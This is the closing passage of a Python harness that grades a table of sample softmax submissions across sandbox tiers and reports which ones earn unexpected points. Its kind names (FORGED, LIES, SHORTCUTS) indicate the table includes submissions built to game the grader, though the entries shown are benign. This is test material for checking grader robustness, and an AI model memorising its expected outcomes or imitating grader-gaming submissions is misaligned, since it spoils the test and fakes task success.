        "    def __init__(self, x): self.x = x\n"
        "    def softmax(self, dim):\n        p = (self.x - self.x.amax(dim, True)).exp()\n"
        "        return p / p.sum(dim, True)\n"
        "def softmax(input, dim=-1): return Row(input).softmax(dim)\n"),
    honest("shortcuts for the command line", RIGHT + "import sys\nif __name__ == '__main__':\n"
        "    print(sys.modules, torch.softmax(torch.ones(3), 0))\n"),
]  # fmt: skip

KINDS = (HONEST, MISTAKEN, PARTIAL, ENDLESS, DIES, TOO_MUCH, FORGED, LIES, SHORTCUTS)
TABLE = [odd for kind in KINDS for odd in kind]


def rows(tier: str) -> list[Odd]:
    """Submissions for a tier. Without walls each run takes seconds: where a walled tier works
    too, one submission of each kind is enough."""
    if tier in WALLED:
        return TABLE
    kinds = [[odd for odd in kind if not odd.walls] for kind in KINDS]
    few = not all(map(lacking, WALLED))
    return [odd for kind in kinds for odd in (kind[:1] if few else kind)]


def grade(odd: Odd, sandbox: Sandbox) -> grading.ExerciseResult:
    """The result as a student or an instructor would get it, with the submission's own limit."""
    sandbox.limits = replace(LIMITS, seconds=odd.seconds, memory_mb=odd.memory_mb)
    return grading.check(RECORD, Submission(odd.text, f"{EXERCISE.slug}.py"), sandbox=sandbox)


def sandboxes(*wanted: str) -> Iterator[Sandbox]:
    """One of each tier, by default of each that has walls and that this machine can have."""
    for tier in wanted or [tier for tier in WALLED if not lacking(tier)]:
        with Sandbox(tier=tier, limits=LIMITS) as sandbox:
            yield sandbox


def verdicts(*wanted: str, part: tuple[int, int] = (1, 1)) -> dict[str, dict[str, list]]:
    """Points and status of every submission on every tier, or those of one part out of so many."""
    number, parts = part
    found: dict[str, dict[str, list]] = {}
    for sandbox in sandboxes(*wanted):
        mine = rows(sandbox.tier)[number - 1 :: parts]
        results = {odd.name: grade(odd, sandbox) for odd in mine}
        found[sandbox.tier] = {
            name: [result.earned, result.status] for name, result in results.items()
        }
    return found


def markdown(found: dict[str, dict[str, list]]) -> str:
    """The table, one column per tier."""
    head = ["submission", "what it tries", "deserves", *found]
    lines = [f"| {' | '.join(head)} |", "|---|---|" + "--:|" * (len(head) - 2)]
    for odd in TABLE:
        tries = "; ".join(words for words in (odd.tries, odd.why) if words)
        got = [f"{scores[odd.name][0]}" if odd.name in scores else "" for scores in found.values()]
        lines.append(f"| {' | '.join([odd.name, tries, str(odd.deserves), *got])} |")
    return "\n".join(lines)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tier", action="append", default=[], choices=TIERS)
    parser.add_argument("--part", default="1/1", help="grade every second one with 1/2 or 2/2")
    parser.add_argument("--json", action="store_true")
    options = parser.parse_args()
    number, _, parts = options.part.partition("/")
    found = verdicts(*options.tier, part=(int(number), int(parts)))
    print(json.dumps(found) if options.json else markdown(found))
    off = [
        f"{tier}: {odd.name} got {found[tier][odd.name]}"
        for tier in found
        for odd in rows(tier)
        if odd.name in found[tier] and found[tier][odd.name][0] != odd.expected
    ]
    sys.exit("\n".join(off) or 0)
